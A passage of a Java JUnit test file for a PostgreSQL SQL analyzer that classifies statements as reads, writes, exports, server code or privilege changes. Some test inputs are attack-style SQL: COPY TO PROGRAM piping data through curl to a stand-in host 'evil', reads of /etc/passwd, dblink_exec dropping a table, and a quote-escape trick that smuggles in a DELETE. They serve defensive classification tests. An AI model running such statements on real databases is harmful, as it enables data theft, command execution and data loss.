package dev.airlock.policy.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlAnalyzerTest {

    private final SqlAnalyzer analyzer = new SqlAnalyzer();

    private SqlStatement one(String sql) {
        SqlAnalysis a = analyzer.analyze(sql);
        assertThat(a.statements()).as(sql).hasSize(1);
        return a.statements().get(0);
    }

    private static TableRef t(String name) {
        return new TableRef(null, name);
    }

    private static TableRef t(String schema, String name) {
        return new TableRef(schema, name);
    }

    // ---- plain statements

    @Test
    void readsSelectWithJoinsAndSchemas() {
        SqlStatement s = one("SELECT a.x, count(*) FROM public.accounts a JOIN \"Orders\" o ON o.a = a.id, items "
                + "WHERE a.id = $1 GROUP BY 1");
        assertThat(s.type()).isEqualTo("SELECT");
        assertThat(s.kind()).isEqualTo(SqlKind.READ);
        assertThat(s.tablesRead()).containsExactlyInAnyOrder(t("public", "accounts"), t("Orders"), t("items"));
        assertThat(s.tablesWritten()).isEmpty();
        assertThat(s.functions()).containsExactly("count");
        assertThat(s.unparsed()).isFalse();
    }

    @Test
    void foldsUnquotedIdentifiersToLowerCase() {
        assertThat(one("select * from Sales.CUSTOMERS").tablesRead()).containsExactly(t("sales", "customers"));
    }

    @Test
    void reportsInsertUpdateDeleteMergeTargets() {
        SqlStatement ins = one("INSERT INTO audit.log (a, b) SELECT x, y FROM src");
        assertThat(ins.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(ins.type()).isEqualTo("INSERT");
        assertThat(ins.tablesWritten()).containsExactly(t("audit", "log"));
        assertThat(ins.tablesRead()).containsExactly(t("src"));

        SqlStatement upd = one("UPDATE ONLY accounts SET balance = 0 FROM limits l WHERE l.id = accounts.id");
        assertThat(upd.type()).isEqualTo("UPDATE");
        assertThat(upd.tablesWritten()).containsExactly(t("accounts"));
        assertThat(upd.tablesRead()).containsExactly(t("limits"));
        assertThat(upd.whereAbsent()).isFalse();

        SqlStatement merge = one("MERGE INTO target t USING source s ON t.id = s.id "
                + "WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)");
        assertThat(merge.type()).isEqualTo("MERGE");
        assertThat(merge.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(merge.tablesWritten()).containsExactly(t("target"));
        assertThat(merge.tablesRead()).containsExactly(t("source"));
    }

    @Test
    void flagsUpdateAndDeleteWithoutWhere() {
        assertThat(one("DELETE FROM customers").whereAbsent()).isTrue();
        assertThat(one("UPDATE customers SET x = (SELECT 1 FROM y WHERE z)").whereAbsent()).isTrue();
        assertThat(one("DELETE FROM customers WHERE id = 1").whereAbsent()).isFalse();
        assertThat(one("DELETE FROM customers WHERE CURRENT OF c").whereAbsent()).isFalse();
        assertThat(one("WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d").whereAbsent()).isTrue();
    }

    // ---- effective kind

    @Test
    void deniesDeleteHiddenInCte() {
        SqlStatement s = one("WITH gone AS (DELETE FROM customers WHERE true RETURNING *) SELECT count(*) FROM gone");
        assertThat(s.type()).isEqualTo("SELECT");
        assertThat(s.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(s.tablesWritten()).containsExactly(t("customers"));
        assertThat(s.tablesRead()).doesNotContain(t("gone"));
    }

    @Test
    void readsCteColumnListsAndRecursiveCtes() {
        SqlStatement s = one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5), "
                + "\"Q\" AS MATERIALIZED (SELECT * FROM base) SELECT * FROM r, \"Q\"");
        assertThat(s.kind()).isEqualTo(SqlKind.READ);
        assertThat(s.tablesRead()).containsExactly(t("base"));
    }

    @Test
    void explainAnalyzeRunsTheStatement() {
        SqlStatement plain = one("EXPLAIN DELETE FROM t");
        assertThat(plain.type()).isEqualTo("EXPLAIN");
        assertThat(plain.kind()).isEqualTo(SqlKind.READ);
        assertThat(one("EXPLAIN ANALYZE DELETE FROM t").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("EXPLAIN (ANALYZE false) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("EXPLAIN (ANALYZE 1) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("EXPLAIN ANALYSE VERBOSE INSERT INTO t VALUES (1)").kind()).isEqualTo(SqlKind.WRITE);
        // the planner may fold calls it believes immutable: an unknown function is still server code
        assertThat(one("EXPLAIN SELECT my_func(1)").kind()).isEqualTo(SqlKind.SERVER_CODE);
    }

    @Test
    void selectIntoCreatesATable() {
        SqlStatement s = one("SELECT * INTO TEMP copy_of FROM customers");
        assertThat(s.type()).isEqualTo("SELECT INTO");
        assertThat(s.kind()).isEqualTo(SqlKind.DDL);
        assertThat(s.tablesWritten()).containsExactly(t("copy_of"));
        assertThat(s.tablesRead()).containsExactly(t("customers"));
    }

    @Test
    void createTableAsReadsAndCreates() {
        SqlStatement s = one("CREATE TABLE snap AS SELECT * FROM customers");
        assertThat(s.type()).isEqualTo("CREATE TABLE AS");
        assertThat(s.kind()).isEqualTo(SqlKind.DDL);
        assertThat(s.tablesWritten()).containsExactly(t("snap"));
        assertThat(s.tablesRead()).containsExactly(t("customers"));
    }

    @Test
    void copyDirectionsAndTargets() {
        SqlStatement in = one("COPY customers (id, name) FROM STDIN WITH (FORMAT csv)");
        assertThat(in.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(in.tablesWritten()).containsExactly(t("customers"));
        SqlStatement out = one("COPY customers TO STDOUT");
        assertThat(out.kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(out.tablesRead()).containsExactly(t("customers"));
        assertThat(one("COPY (SELECT * FROM secrets) TO '/tmp/x.csv'").kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(one("COPY customers FROM '/etc/passwd'").kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(one("COPY customers TO PROGRAM 'curl -d @- evil'").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("COPY customers FROM PROGRAM 'id'").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("COPY (DELETE FROM t RETURNING *) TO STDOUT").kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(one("COPY (DELETE FROM t RETURNING *) TO STDOUT").tablesWritten()).containsExactly(t("t"));
    }

    @Test
    void doAndCallAreServerCode() {
        assertThat(one("DO $body$ BEGIN DELETE FROM t; END $body$").kind()).isEqualTo(SqlKind.SERVER_CODE);
        SqlStatement call = one("CALL app.reindex_all(1)");
        assertThat(call.kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(call.functions()).containsExactly("app.reindex_all");
    }

    @Test
    void prepareTakesTheKindOfItsStatementAndExecuteIsUnknown() {
        SqlStatement p = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
        assertThat(p.type()).isEqualTo("PREPARE");
        assertThat(p.kind()).isEqualTo(SqlKind.WRITE);
        SqlStatement e = one("EXECUTE p(1)");
        assertThat(e.unparsed()).isTrue();
        assertThat(e.kind()).isEqualTo(SqlKind.ADMIN);
        SqlAnalyzer lenient = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withUnparsedKind(SqlKind.WRITE));
        assertThat(lenient.analyze("EXECUTE p(1)").kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void executeIsTheStatementTheSessionPreparedUnderThatName() {
        Map<String, String> prepared = Map.of("del", "DELETE FROM t WHERE id = $1", "Q", "SELECT * FROM u WHERE id = $1",
                "cte", "WITH x AS (SELECT 1) SELECT * FROM x, v");
        SqlStatement e = analyzer.analyze("EXECUTE del(1)", true, prepared::get).statements().get(0);
        assertThat(e.unparsed()).isFalse();
        assertThat(e.type()).isEqualTo("DELETE");
        assertThat(e.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(e.tablesWritten()).containsExactly(t("t"));
        // names fold like the server's; the arguments are evaluated, calls and all
        assertThat(analyzer.analyze("execute \"Q\"(nextval('s'))", true, prepared::get).statements().get(0))
                .satisfies(s -> {
                    assertThat(s.kind()).isEqualTo(SqlKind.WRITE);
                    assertThat(s.tablesRead()).containsExactly(t("u"));
                    assertThat(s.functions()).containsExactly("nextval");
                });
        assertThat(analyzer.analyze("EXECUTE q(1)", true, prepared::get).statements().get(0).unparsed()).isTrue();
        assertThat(analyzer.analyze("EXECUTE cte", true, prepared::get).statements().get(0).tablesRead())
                .containsExactly(t("v"));
        // a session that prepared nothing, and trailing junk, leave it unparsed
        assertThat(analyzer.analyze("EXECUTE del(1)").statements().get(0).kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(analyzer.analyze("EXECUTE del(1) x", true, prepared::get).statements().get(0).unparsed()).isTrue();
        // never answered from the cache: the same shape means another statement in another session
        assertThat(analyzer.analyze("EXECUTE del(2)", true, n -> "SELECT 1").statements().get(0).kind())
                .isEqualTo(SqlKind.READ);
        assertThat(analyzer.analyze("EXPLAIN ANALYZE EXECUTE del(2)", true, prepared::get).kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void readsWhatAStringDoesToThePreparedStatements() {
        assertThat(analyzer.preparedChanges("PREPARE Del (int) AS DELETE FROM t WHERE id = $1; SELECT 1;"
                + "deallocate prepare \"X\"; DEALLOCATE ALL; DISCARD ALL; DISCARD PLANS; PREPARE TRANSACTION 'x'"))
                .containsExactly(new PreparedChange.Prepare("del", "DELETE FROM t WHERE id = $1"),
                        new PreparedChange.Deallocate("X"), new PreparedChange.DeallocateAll(),
                        new PreparedChange.DeallocateAll());
        assertThat(analyzer.preparedChanges("PREPARE p (int AS")).containsExactly(new PreparedChange.Deallocate("p"));
        assertThat(analyzer.preparedChanges("SELECT 1")).isEmpty();
    }

    @Test
    void tellsWhichStatementsLeaveStateInTheSession() {
        for (String sql : List.of("SET search_path = evil, public", "set role admin", "SET SESSION AUTHORIZATION bob",
                "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "RESET ALL", "reset statement_timeout",
                "SELECT pg_catalog.set_config('search_path', 'x', false)", "SELECT \"set_config\"('a.b', 'x', false)",
                "SELECT pg_advisory_lock(42)", "select pg_try_advisory_lock_shared(1, 2)", "LISTEN orders",
                "PREPARE p AS SELECT 1", "LOAD 'auto_explain'", "DO $$ BEGIN PERFORM set_config('x.y', '1', false); END $$",
                "CREATE TEMP TABLE t (id int)", "create global temporary table t (id int)",
                "CREATE OR REPLACE TEMP VIEW v AS SELECT 1", "SELECT 1 INTO TEMP t",
                "DECLARE c CURSOR WITH HOLD FOR SELECT 1", "SELECT 1; SET search_path = x", "SELECT 'unterminated")) {
            assertThat(analyzer.changesSessionState(sql, FOLLOWED)).as(sql).isTrue();
        }
        for (String sql : List.of("SELECT 1", "UPDATE t SET a = 1 WHERE id = 2", "SET LOCAL search_path = x",
                "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET CONSTRAINTS ALL DEFERRED", "BEGIN; SELECT 1; COMMIT",
                "SELECT 'SET search_path = x; set_config' /* RESET ALL */", "SELECT pg_advisory_xact_lock(42)",
                "SELECT temp FROM weather", "ALTER TABLE t SET (fillfactor = 70)", "DECLARE c CURSOR FOR SELECT 1",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog AS 'SELECT 1'")) {
            assertThat(analyzer.changesSessionState(sql, FOLLOWED)).as(sql).isFalse();
        }
        // settings the caller follows itself do not count, however they are written; anything else with them does
        for (String sql : List.of("SET application_name = 'PostgreSQL JDBC Driver'", "set session TimeZone to 'UTC'",
                "SET TIME ZONE 'Europe/Berlin'", "SET NAMES 'UTF8'", "RESET DateStyle", "SET \"application_name\" = x")) {
            assertThat(analyzer.changesSessionState(sql, FOLLOWED)).as(sql).isFalse();
            assertThat(analyzer.changesSessionState(sql, Set.of())).as(sql).isTrue();
        }
        for (String sql : List.of("SET application_name = x; SET search_path = y", "SET timezone.x = 1",
                "SET SESSION AUTHORIZATION timezone", "RESET ALL")) {
            assertThat(analyzer.changesSessionState(sql, FOLLOWED)).as(sql).isTrue();
        }
    }

    private static final Set<String> FOLLOWED = Set.of("application_name", "timezone", "client_encoding", "datestyle");

    @Test
    void setConfigIsSetForTheSettingItNames() {
        // a SELECT reads, so that is the kind of a query whose call only sets a session setting
        assertThat(one("SELECT pg_catalog.set_config('search_path', '', false)").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT set_config('Role', 'admin', false)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config('session_authorization', 'x', true)").kind()).isEqualTo(SqlKind.DCL);
        // same shape as the SESSION one above: a cached answer would be wrong
        assertThat(one("SELECT pg_catalog.set_config('role', '', false)").kind()).isEqualTo(SqlKind.DCL);
        // a setting it cannot read for sure is DCL
        assertThat(one("SELECT set_config(E'\\x72ole', 'x', false)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config('ro' || 'le', 'x', false)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config('ro'\n'le', 'x', false)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config(s, 'x', false) FROM t").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config($1, 'x', false)").kind()).isEqualTo(SqlKind.DCL);
        // pg_dump's: the row of pg_settings it selects names the setting
        assertThat(one("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
                + "WHERE name = 'restrict_nonsystem_relation_kind'").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'").kind())
                .isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' OR true").kind())
                .isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'a'").kind())
                .isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT 1, set_config(name, 'x', false) FROM pg_settings WHERE name = 'a'").kind())
                .isEqualTo(SqlKind.DCL);
    }

    @Test
    void lockInAccessShareModeReadsLikeASelect() {
        SqlStatement s = one("LOCK TABLE public.items IN ACCESS SHARE MODE");
        assertThat(s.kind()).isEqualTo(SqlKind.READ);
        assertThat(s.tablesRead()).containsExactly(t("public", "items"));
        assertThat(one("LOCK items IN ACCESS SHARE MODE NOWAIT").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("LOCK TABLE items").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("LOCK TABLE items IN ROW SHARE MODE").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("LOCK TABLE items IN ACCESS EXCLUSIVE MODE").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("LOCK TABLE items IN SHARE MODE").kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void readsPgDumpsCatalogQueries() {
        assertThat(one("SELECT n.oid, acldefault('n', n.nspowner) AS acldefault FROM pg_namespace n").kind())
                .isEqualTo(SqlKind.READ);
        assertThat(one("SELECT pg_get_partkeydef('16451')").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT pg_catalog.pg_get_statisticsobjdef('16457'::pg_catalog.oid)").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT array_to_string(ARRAY(SELECT pg_catalog.quote_ident(option_name) FROM "
                + "pg_catalog.pg_options_to_table(c.reloptions)), ', ') FROM pg_class c").kind()).isEqualTo(SqlKind.READ);
    }

    @Test
    void lockingClausesAreWrites() {
        assertThat(one("SELECT * FROM t FOR UPDATE").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("SELECT * FROM t FOR KEY SHARE OF t NOWAIT").kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void functionsWithSideEffectsRaiseTheKind() {
        assertThat(one("SELECT nextval('s')").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("SELECT pg_catalog.setval('s', 1)").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("SELECT pg_read_file('/etc/passwd')").kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(one("SELECT lo_export(1, '/tmp/x')").kind()).isEqualTo(SqlKind.EXPORT);
        assertThat(one("SELECT * FROM dblink_exec('x', 'drop table t')").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT set_config('role', 'admin', false)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SELECT pg_terminate_backend(42)").kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("SELECT lower(name), coalesce(a, b), now() FROM t").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT my_schema.do_things()").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT public.count(x) FROM t").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT x FROM t WHERE a = 1 AND NOT evil(a)").functions()).contains("evil");
        assertThat(one("SELECT extract(year FROM ts), substring(s FROM 2 FOR 3) FROM t").tablesRead())
                .containsExactly(t("t"));
        assertThat(one("SELECT x::numeric(10,2), CAST(y AS varchar(3)) FROM t").kind()).isEqualTo(SqlKind.READ);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT (SELECT evil())",
            "SELECT * FROM t WHERE x = ANY(ARRAY(SELECT evil()))",
            "VALUES (evil())",
            "SELECT t.evil()",
            "SELECT COALESCE(evil(), 1)",
            "SELECT CASE WHEN evil() THEN 1 END",
            "SELECT CASE evil() WHEN 1 THEN 2 ELSE evil() END",
            "SELECT 1 WHERE evil() IS NULL",
            "SELECT 1 ORDER BY evil()",
            "SELECT * FROM t LIMIT evil()",
            "SELECT x FROM t GROUP BY x HAVING evil()",
            "SELECT evil() OVER ()",
            "SELECT * FROM t JOIN u ON evil()",
            "SELECT * FROM t WHERE NOT evil()",
            "SELECT ARRAY[evil()]",
            "SELECT 1 = evil()",
            "SELECT 'a' || evil()",
            "SELECT x::text || evil() FROM t",
            "SELECT evil()::text",
            "SELECT * FROM t WHERE a IN (evil())",
            "SELECT * FROM t WHERE a BETWEEN evil() AND 2",
            "SELECT * FROM t WHERE a BETWEEN SYMMETRIC 1 AND evil()",
            "SELECT DISTINCT ON (evil()) a FROM t",
            "SELECT DISTINCT evil() FROM t",
            "SELECT * FROM t WHERE a IS DISTINCT FROM evil()",
            "SELECT * FROM t WHERE a IS NOT DISTINCT FROM evil()",
            "SELECT a FROM t WHERE a LIKE evil()",
            "SELECT a FROM t WHERE a SIMILAR TO evil()",
            "SELECT a FROM t WHERE a LIKE 'x' ESCAPE evil()",
            "SELECT EXTRACT(year FROM evil())",
            "SELECT SUBSTRING(evil() FROM 1)",
            "SELECT TRIM(BOTH FROM evil())",
            "SELECT * FROM t WHERE a = $1 AND evil()",
            "INSERT INTO t SELECT evil()",
            "INSERT INTO t VALUES (evil())",
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = evil()",
            "UPDATE t SET a = evil()",
            "UPDATE t SET (a, b) = (evil(), 1)",
            "DELETE FROM t WHERE evil()",
            "DELETE FROM t RETURNING evil()",
            "SELECT * FROM t TABLESAMPLE SYSTEM (evil())",
            "SELECT a FROM t WINDOW w AS (ORDER BY evil())",
            "SELECT xmlelement(name x, evil())",
            "SELECT evil(VARIADIC ARRAY[1])",
            "SELECT count(*) FILTER (WHERE evil()) FROM t",
            "SELECT a AT TIME ZONE evil() FROM t",
            "SELECT * FROM t, LATERAL evil(t.a)",
            "SELECT * FROM t CROSS JOIN LATERAL evil() e",
            "SELECT (evil()).x",
            "SELECT ROW(evil())",
            "SELECT * FROM t WHERE EXISTS (SELECT evil())",
            "SELECT 1 UNION SELECT evil()",
            "SELECT * FROM (VALUES (evil())) v",
            "SELECT * FROM t WHERE a = ALL(SELECT evil())",
            "SELECT evil(a => 1)",
            "SELECT evil(a := 1)",
            "SELECT public.evil()",
            "SELECT \"public\".\"evil\"()",
            "SELECT U&\"\\0065vil\"()",
            "SELECT 1 x, evil()",
            "SELECT * FROM t x (a), evil() e",
            "DECLARE c CURSOR FOR SELECT evil()",
            "CREATE TABLE x AS SELECT evil()",
            "CREATE INDEX ON t ((evil(a)))",
            "CREATE INDEX i ON t USING gist (evil(a))",
            "ALTER TABLE t ADD CONSTRAINT c CHECK (evil(a))",
            "ALTER TABLE t ALTER COLUMN a TYPE int USING evil(a)",
            "PREPARE p AS SELECT evil()",
            "EXPLAIN ANALYZE SELECT evil()",
            "EXPLAIN SELECT evil()",
            "SELECT * FROM ROWS FROM (evil())",
            "SELECT * FROM t ORDER BY a USING <, evil()",
            "SELECT 1 FROM t WHERE a ISNULL AND evil()",
            "SELECT - evil()",
            "SELECT @ evil()",
            "SELECT * FROM t ORDER BY a NULLS FIRST, evil()",
            "SELECT evil() COLLATE \"C\"",
            "SELECT 1 FROM t GROUP BY GROUPING SETS ((evil()))",
            "SELECT cast(evil() AS int)",
            "SELECT treat(evil() AS int)",
            "SELECT * FROM t WHERE a IN (SELECT b FROM u WHERE c = evil())",
            "SELECT * FROM t WHERE a IS TRUE AND evil()",
            "SELECT 1 WHERE true OR evil()",
            "SELECT a FROM t OFFSET evil() ROWS",
            "SELECT a FROM t FETCH FIRST evil() ROWS ONLY",
            "SELECT a FROM t LIMIT ALL OFFSET evil()",
            "SELECT a FROM t WHERE a = SOME(evil())",
            "SELECT a FROM t WHERE a = ANY (evil())",
            "MERGE INTO t USING s ON evil() WHEN MATCHED THEN DO NOTHING",
            "MERGE INTO t USING s ON true WHEN MATCHED AND evil() THEN DELETE",
            "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (evil())",
            "COPY (SELECT evil()) TO STDOUT",
            "COPY t FROM STDIN WHERE evil(a)",
            "CALL p(evil())",
            "WITH x AS (SELECT evil()) SELECT * FROM x",
            "WITH RECURSIVE x(n) AS (SELECT 1 UNION SELECT evil() FROM x) SELECT * FROM x",
            "SELECT evil(1), freeze(1)",
            "SELECT json_build_object('a', evil())",
            "SELECT a[evil()] FROM t",
            "SELECT a[1:evil()] FROM t",
            "SELECT * FROM evil() AS f(a int)",
            "SELECT * FROM t WHERE (a, b) IN (SELECT evil(), 1)",
            "SELECT 1; SELECT evil()"
    })
    void findsCallsInEveryExpressionPosition(String sql) {
        SqlAnalysis a = analyzer.analyze(sql);
        assertThat(a.kind()).as(sql).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(a.statements().stream().flatMap(s -> s.functions().stream())).as(sql)
                .anyMatch(f -> f.endsWith("evil"));
    }

    @Test
    void functionsNamedLikeSyntaxWordsAreStillCalls() {
        // type-function-name and unreserved keywords can name user functions
        assertThat(one("SELECT freeze(1)").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT a FROM t WHERE key(a) AND options(b)").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT left(name, 2), right(name, 1) FROM t").kind()).isEqualTo(SqlKind.READ);
        // … while the same words as syntax are not calls
        assertThat(one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO NOTHING").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("SELECT * FROM t WHERE a LIKE ('x' || b) AND (c, d) OVERLAPS (e, f)").kind())
                .isEqualTo(SqlKind.READ);
        assertThat(one("SELECT a FROM t GROUP BY (a), ROLLUP (a) ORDER BY (a)").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT * FROM a JOIN (SELECT 1) b ON true").kind()).isEqualTo(SqlKind.READ);
    }

    @Test
    void userDefinedOperatorsAreCalls() {
        assertThat(one("SELECT a === b FROM t").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT a OPERATOR(evil.+) b FROM t").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT a OPERATOR(pg_catalog.+) b, c->>'x', d @> e FROM t").kind()).isEqualTo(SqlKind.READ);
    }

    @Test
    void followsTheSessionsStandardConformingStrings() {
        String sql = "SELECT 'x\\'' ; DELETE FROM t; -- '";
        // on (default): one string 'x\', then another string: a single harmless statement
        assertThat(analyzer.analyze(sql, true).statements()).hasSize(1);
        // off: \' escapes the quote, so the DELETE is a statement of its own
        SqlAnalysis off = analyzer.analyze(sql, false);
        assertThat(off.statements()).hasSize(2);
        assertThat(off.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(analyzer.analyze("SELECT U&'x'", false).unparsed()).isTrue();
    }

    @Test
    void alterDomainCheckRunsItsCalls() {
        assertThat(one("ALTER DOMAIN d ADD CONSTRAINT c CHECK (evil(VALUE))").kind()).isEqualTo(SqlKind.SERVER_CODE);
    }

    @Test
    void catalogueAndUnknownFunctionKindAreConfigurable() {
        SqlAnalyzer custom = new SqlAnalyzer(SqlAnalyzerOptions.defaults()
                .withCatalogue(FunctionCatalogue.defaults().with("app.safe_*", SqlKind.READ))
                .withUnknownFunctionKind(SqlKind.WRITE));
        assertThat(custom.analyze("SELECT app.safe_lookup(1)").kind()).isEqualTo(SqlKind.READ);
        assertThat(custom.analyze("SELECT other(1)").kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void classifiesUtilityStatements() {
        assertThat(one("BEGIN").kind()).isEqualTo(SqlKind.TRANSACTION);
        assertThat(one("SET search_path = public").kind()).isEqualTo(SqlKind.SESSION);
        assertThat(one("SET ROLE admin").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET SESSION AUTHORIZATION postgres").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET session_authorization TO 'postgres'").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET LOCAL \"Role\" = 'admin'").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").kind()).isEqualTo(SqlKind.TRANSACTION);
        assertThat(one("GRANT SELECT ON t TO bob").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("CREATE ROLE bob").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("VACUUM FULL t").kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("ALTER SYSTEM SET work_mem = '1GB'").kind()).isEqualTo(SqlKind.ADMIN);
        SqlStatement drop = one("DROP TABLE IF EXISTS a, s.b CASCADE");
        assertThat(drop.kind()).isEqualTo(SqlKind.DDL);
        assertThat(drop.type()).isEqualTo("DROP TABLE");
        assertThat(drop.tablesWritten()).containsExactlyInAnyOrder(t("a"), t("s", "b"));
        SqlStatement trunc = one("TRUNCATE TABLE ONLY a, b RESTART IDENTITY");
        assertThat(trunc.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(trunc.tablesWritten()).containsExactlyInAnyOrder(t("a"), t("b"));
        assertThat(one("CREATE UNIQUE INDEX CONCURRENTLY i ON t USING btree (lower(a))").type())
                .isEqualTo("CREATE INDEX");
        assertThat(one("CREATE OR REPLACE FUNCTION f(a int) RETURNS int LANGUAGE sql AS $$ DELETE FROM t $$").kind())
                .isEqualTo(SqlKind.DDL);
        assertThat(one("CREATE EXTENSION dblink").kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("frobnicate the database").unparsedReason()).contains("FROBNICATE");
    }

    // ---- found by the differential test over PostgreSQL's regression suite

    @Test
    void callIsServerCodeEvenForANameTheCatalogueCallsPure() {
        // CALL runs a procedure: with search_path = public, pg_catalog, a user's procedure "version" runs here
        assertThat(one("CALL version()").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("CALL random()").kind()).isEqualTo(SqlKind.SERVER_CODE);
        SqlAnalyzer custom = new SqlAnalyzer(FunctionCatalogue.defaults().with("app.flush", SqlKind.ADMIN));
        assertThat(custom.analyze("CALL app.flush()").kind()).isEqualTo(SqlKind.ADMIN);
    }

    @Test
    void setLocalSessionAuthorizationIsDcl() {
        assertThat(one("SET LOCAL SESSION AUTHORIZATION regress_user").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET SESSION SESSION AUTHORIZATION regress_user").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET LOCAL ROLE admin").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("SET LOCAL SESSION CHARACTERISTICS AS TRANSACTION READ ONLY").kind())
                .isEqualTo(SqlKind.TRANSACTION);
        assertThat(one("SET LOCAL work_mem = '1MB'").kind()).isEqualTo(SqlKind.SESSION);
    }

    @Test
    void aFunctionNamedSetIsACall() {
        SqlStatement s = one("SELECT set('t')");
        assertThat(s.kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(s.functions()).containsExactly("set");
        assertThat(one("UPDATE t SET (a, b) = (1, 2)").functions()).isEmpty();
        assertThat(one("UPDATE t AS x SET (a) = ROW(1) WHERE true").kind()).isEqualTo(SqlKind.WRITE);
        assertThat(one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET (a) = ROW(2)").kind())
                .isEqualTo(SqlKind.WRITE);
    }

    @Test
    void aliasColumnListsInFromAreNotCalls() {
        SqlStatement v = one("SELECT * FROM (VALUES (1), (2)) v(x), generate_series(1, 3) g(i)");
        assertThat(v.kind()).isEqualTo(SqlKind.READ);
        assertThat(v.functions()).containsExactly("generate_series");
        assertThat(v.tablesRead()).isEmpty();
